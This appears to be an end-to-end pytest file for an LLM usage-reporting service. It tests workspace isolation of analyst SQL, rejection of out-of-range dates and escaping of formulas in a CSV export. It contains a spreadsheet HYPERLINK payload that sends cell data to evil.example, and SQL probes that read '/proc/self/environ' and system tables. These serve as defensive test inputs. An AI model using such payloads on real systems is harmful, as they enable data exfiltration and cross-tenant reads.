"""Issue 20 over the whole stack: analyst SQL stays in its workspace and cannot stall the others; dates
outside 1970-2200 are 422; the board pack CSV escapes formulas."""

import csv
import io
import threading
import time
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest

from opsmeter_runtime.testing import SPEC_EXAMPLE_BODY
from tests.conftest import RunningStack
from tests.e2e.test_ingest_to_usage import eventually

B_MODEL = "gpt-4o"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def body(at: datetime, **fields: Any) -> dict[str, Any]:
    return {**SPEC_EXAMPLE_BODY, "externalRequestId": f"req_{uuid.uuid4().hex}", "timestamp": at.isoformat(), **fields}


def ingest(stack: RunningStack, ws: dict[str, Any], events: list[dict[str, Any]]) -> None:
    answer = httpx.post(
        f"{stack.url('ingest-gateway')}/v1/ingest/llm-requests",
        json={"events": events},
        headers={"X-API-Key": ws["apiKey"]},
        timeout=30,
    )
    assert answer.status_code == 207, answer.text
    assert all(r["httpStatus"] == 202 for r in answer.json()["results"])


def reporting(stack: RunningStack, ws: dict[str, Any], path: str, **params: str) -> httpx.Response:
    return httpx.get(
        f"{stack.url('reporting')}/v1/workspaces/{ws['workspaceId']}/{path}",
        params=params,
        headers={"Authorization": f"Bearer {ws['adminToken']}"},
        timeout=60,
    )


def sql(stack: RunningStack, ws: dict[str, Any], query: str) -> httpx.Response:
    return httpx.post(
        f"{stack.url('reporting')}/v1/workspaces/{ws['workspaceId']}/sql",
        json={"sql": query},
        headers={"Authorization": f"Bearer {ws['adminToken']}"},
        timeout=60,
    )


def requests(stack: RunningStack, ws: dict[str, Any]) -> int:
    return int(reporting(stack, ws, "usage").json()["totals"]["requests"])


@pytest.fixture(scope="module")
def pair(stack: RunningStack) -> tuple[dict[str, Any], dict[str, Any]]:
    """Workspace A with 400 calls (enough for a cartesian product to run out its time) and B with 2."""
    a, b = stack.create_workspace("team"), stack.create_workspace("team")
    now = datetime.now(UTC).replace(microsecond=0)
    ingest(stack, a, [body(now - timedelta(minutes=30)) for _ in range(400)])
    ingest(stack, b, [body(now - timedelta(minutes=20), model=B_MODEL, endpointTag=FORMULA) for _ in range(2)])
    eventually(lambda: requests(stack, a) == 400 and requests(stack, b) == 2, timeout=30)
    return a, b


class TestAnalystSqlOverHttp:
    @pytest.mark.parametrize(
        "query",
        [
            "SELECT file('/proc/self/environ')",
            "SELECT workspace_id, model FROM llm_requests_hourly_mv",
            "SELECT workspace_id FROM merge(currentDatabase(), '^llm_requests_raw$')",
            "SELECT name FROM `system`.tables",
            "SELECT workspace_id FROM llm_requests_raw UNION ALL SELECT workspace_id FROM llm_requests_daily_mv",
        ],
    )
    def test_escapes_are_refused_with_a_reason_and_without_the_query(
        self, stack: RunningStack, pair: tuple[dict[str, Any], dict[str, Any]], query: str
    ) -> None:
        a, _ = pair
        answer = sql(stack, a, query)
        assert answer.status_code == 422, answer.text
        refusal = answer.json()
        assert refusal["errors"][0]["field"] == "sql"
        assert refusal["message"]
        assert query not in answer.text
        assert "workspace_id =" not in answer.text

    def test_a_workspace_reads_only_its_rows(
        self, stack: RunningStack, pair: tuple[dict[str, Any], dict[str, Any]]
    ) -> None:
        a, b = pair
        answer = sql(stack, a, "SELECT workspace_id, model, count() FROM llm_requests_raw GROUP BY 1, 2")
        assert answer.status_code == 200, answer.text
        assert answer.json()["rows"] == [[a["workspaceId"], "gpt-4o-mini", 400]]
        subquery = sql(stack, b, "SELECT (SELECT groupUniqArray(workspace_id) FROM llm_requests_hourly) AS ws")
        assert subquery.json()["rows"] == [[[b["workspaceId"]]]]

    def test_a_cartesian_query_does_not_delay_another_workspace(
        self, stack: RunningStack, pair: tuple[dict[str, Any], dict[str, Any]]
    ) -> None:
        a, b = pair
        cartesian: dict[str, httpx.Response] = {}
        query = (
            "SELECT count() FROM llm_requests_raw AS x, llm_requests_raw AS y, llm_requests_raw AS z, llm_requests_raw"
        )
        runner = threading.Thread(target=lambda: cartesian.setdefault("answer", sql(stack, a, query)))
        runner.start()
        time.sleep(1.0)
        busy = sql(stack, a, "SELECT 1")
        assert busy.status_code == 429
        waits = []
        for _ in range(5):
            started = time.monotonic()
            assert reporting(stack, b, "usage").status_code == 200
            waits.append(time.monotonic() - started)
        ingest(stack, b, [body(datetime.now(UTC) - timedelta(minutes=1), model=B_MODEL)])
        started = time.monotonic()
        eventually(lambda: requests(stack, b) == 3, timeout=8)
        visible_after = time.monotonic() - started
        assert runner.is_alive(), "the cartesian query should still be running"
        assert max(waits) < 1.0, waits
        assert visible_after < 3.0
        runner.join(timeout=30)
        answer = cartesian["answer"]
        assert answer.status_code == 422
        assert "time limit" in answer.json()["message"]


class TestDatesOutsideTheSupportedRange:
    @pytest.mark.parametrize(
        ("path", "params", "field"),
        [
            ("usage", {"to": "0243-04-09T07:39:54-21:05"}, "to"),
            ("usage", {"from": "1969-12-31T00:00:00Z"}, "from"),
            ("spike", {"to": "0243-04-09T07:39:54-21:05"}, "to"),
            ("spike", {"from": "2300-01-01T00:00:00Z", "to": "2300-01-02T00:00:00Z"}, "from"),
            ("exports/board-pack", {"from": "0243-04-09", "to": "2026-01-01"}, "from"),
        ],
    )
    def test_are_422_naming_the_field(
        self,
        stack: RunningStack,
        pair: tuple[dict[str, Any], dict[str, Any]],
        path: str,
        params: dict[str, str],
        field: str,
    ) -> None:
        a, _ = pair
        answer = reporting(stack, a, path, **params)
        assert answer.status_code == 422, answer.text
        assert answer.headers["content-type"].startswith("application/json")
        assert answer.json()["errors"][0]["field"] == field


class TestBoardPackCsv:
    def test_a_formula_in_a_driver_is_escaped(
        self, stack: RunningStack, pair: tuple[dict[str, Any], dict[str, Any]]
    ) -> None:
        _, b = pair
        day = datetime.now(UTC).date()
        answer = reporting(stack, b, "exports/board-pack", **{"from": str(day - timedelta(days=1)), "to": str(day)})
        assert answer.status_code == 200, answer.text
        keys = [row[2] for row in csv.reader(io.StringIO(answer.text)) if row[:2] == ["top_driver", "endpointTag"]]
        assert "'" + FORMULA in keys
        assert FORMULA not in keys
